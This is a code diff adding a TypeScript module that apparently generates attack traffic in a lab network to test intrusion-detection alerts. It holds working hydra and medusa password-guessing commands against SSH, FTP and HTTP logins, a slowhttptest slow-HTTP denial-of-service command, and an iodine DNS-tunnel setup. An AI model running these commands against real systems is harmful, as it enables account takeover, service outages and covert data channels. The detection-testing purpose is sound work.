@@ -1,0 +1,87 @@
+/** Guessed passwords, slow HTTP, and tunnels through DNS. */
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Site } from '../site.ts';
+import { type Attack, single } from './attack.ts';
+
+const speeds = { fast: [4, 16], medium: [1, 3], slow: [0.3, 0.6] } as const;
+
+function wordList(site: Site): string {
+  const path = join(site.network.directory, 'words');
+  writeFileSync(path, Array.from({ length: 60 }, (_, i) => `word${i}\n`).join(''));
+  return path;
+}
+
+function guess(
+  tool: string,
+  service: string,
+  host: 'web' | 'files',
+  command: (site: Site, tries: number, words: string, target: string) => string,
+): Attack {
+  return {
+    class: `brute.${service}`,
+    alerts: [`brute-force.${service}`],
+    technique: 'T1110.001',
+    tool,
+    needs: service === 'ftp' ? [tool, 'vsftpd'] : [tool],
+    speeds,
+    plan(site, rate) {
+      const target = site.address(host);
+      return single('evil', command(site, Math.max(1, Math.round(rate)), wordList(site), target), [site.address('evil')], [target], 40);
+    },
+  };
+}
+
+export const loginsAndTunnels: readonly Attack[] = [
+  guess('hydra', 'ssh', 'files', (_site, tries, words, target) => `hydra -I -l root -P ${words} -t ${Math.min(tries, 8)} ssh://${target}`),
+  guess(
+    'medusa',
+    'ssh',
+    'files',
+    (_site, tries, words, target) => `medusa -h ${target} -u root -P ${words} -M ssh -t ${Math.min(tries, 4)}`,
+  ),
+  guess('hydra', 'ftp', 'files', (_site, tries, words, target) => `hydra -I -l root -P ${words} -t ${Math.min(tries, 8)} ftp://${target}`),
+  guess(
+    'hydra',
+    'http',
+    'web',
+    (_site, tries, words, target) => `hydra -I -l alice -P ${words} -t ${Math.min(tries, 8)} http-get://${target}/private`,
+  ),
+  {
+    class: 'slow-http',
+    alerts: ['slow-http'],
+    technique: 'T1499.002',
+    tool: 'slowhttptest',
+    needs: ['slowhttptest'],
+    speeds: { fast: [50, 200], medium: [20, 40] },
+    plan: (site, rate) =>
+      single(
+        'evil',
+        `slowhttptest -H -c 150 -r ${Math.round(rate)} -i 5 -l 15 -u http://${site.address('web')}/`,
+        [site.address('evil')],
+        [site.address('web')],
+        25,
+      ),
+  },
+  {
+    class: 'dns-tunnel',
+    alerts: ['dns.tunnel'],
+    technique: 'T1071.004',
+    tool: 'iodine',
+    needs: ['iodine', 'iodined', 'ping'],
+    speeds: { fast: [5, 20], medium: [1, 2] },
+    plan(site, rate) {
+      const server = site.address('bob');
+      return {
+        jobs: [
+          { host: 'bob', argv: ['timeout', '22', 'iodined', '-f', '-c', '-P', 'lab', '172.30.99.1', 't.example.test'] },
+          { host: 'evil', argv: ['timeout', '20', 'iodine', '-f', '-r', '-P', 'lab', server, 't.example.test'] },
+          { host: 'evil', argv: ['bash', '-c', `sleep 6; ping -q -i ${Math.max(0.2, 1 / rate).toFixed(2)} -w 12 172.30.99.1`] },
+        ],
+        attackers: [site.address('evil')],
+        victims: [server],
+        seconds: 24,
+      };
+    },
+  },
+];
